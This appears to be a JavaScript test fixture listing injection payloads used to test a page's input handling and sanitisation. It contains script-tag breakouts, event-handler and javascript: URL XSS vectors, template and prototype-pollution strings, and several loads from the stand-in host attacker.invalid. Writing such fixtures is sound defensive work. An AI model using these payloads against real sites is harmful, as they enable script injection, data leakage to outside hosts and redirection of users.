// What is thrown at the page wherever a text comes in: each would do something, were it taken for more than text. What does
// something sets `__pwned`, asks another origin, or changes Object.prototype.

const away = 'https://attacker.invalid/'

export const payloads = {
  'an image': `<img src=x onerror="globalThis.__pwned='image'">`,
  'a fetched image': `<img src="${away}pixel.gif">`,
  'an end of a script': `</script><script>globalThis.__pwned='script'</script>`,
  'a script from elsewhere': `<script src="${away}x.js"></script>`,
  'an end of an attribute': `"><svg onload="globalThis.__pwned='svg'">`,
  'an end of a quoted attribute': `' autofocus onfocus='globalThis.__pwned="focus"`,
  'a handler': `x" onmouseover="globalThis.__pwned='over'" style="position:fixed;inset:0`,
  'an end of a text field': `</textarea><iframe srcdoc="<script>parent.__pwned='frame'</script>"></iframe>`,
  'an end of a title': `</title><body onload="globalThis.__pwned='body'">`,
  'a base': `<base href="${away}">`,
  'a refresh': `<meta http-equiv="refresh" content="0;url=${away}">`,
  'a form': `<form action="${away}"><button autofocus>Go on</button></form>`,
  'a link that runs': `<a href="javascript:globalThis.__pwned='link'">here</a>`,
  'an address that runs': `javascript:globalThis.__pwned='address'`,
  'an address that is a page': `data:text/html,<script>globalThis.__pwned='data'</script>`,
  'a style sheet': `<style>@import url(${away}x.css); * { background: url(${away}x.png) }</style>`,
  'a style': `red; background-image: url(${away}x.png)`,
  'mathematics': `<math><mtext><table><mglyph><style><img src=x onerror="globalThis.__pwned='math'">`,
  'a template': `<template><script>globalThis.__pwned='template'</script></template>`,
  'a comment': `<!--><img src=x onerror="globalThis.__pwned='comment'">-->`,
  'entities': `&lt;img src=x onerror=&quot;globalThis.__pwned='entities'&quot;&gt;&#x3c;b&#x3e;`,
  'braces': `{{constructor.constructor("globalThis.__pwned='braces'")()}}`,
  'a template literal': '${globalThis.__pwned = "literal"}`+`',
  'a replacement': `$&$'$\`$1`,
  'line separators': `a\u2028globalThis.__pwned='line'\u2029b`,
  'zeros and controls': 'a\u0000b\u0007c\u001b[31md',
  'a text from right to left': 'user\u202e\u2066gnp.exe',
  'half a character': 'a\ud83d b',
  'the prototype': '__proto__',
  'the constructor': 'constructor',
  'a method': 'toString',
  'a path to the prototype': '/__proto__/polluted',
  'a program': `'; globalThis.__pwned = 'program'; '`,
  'very long': 'long'.repeat(60),
}

export const all = Object.values(payloads)
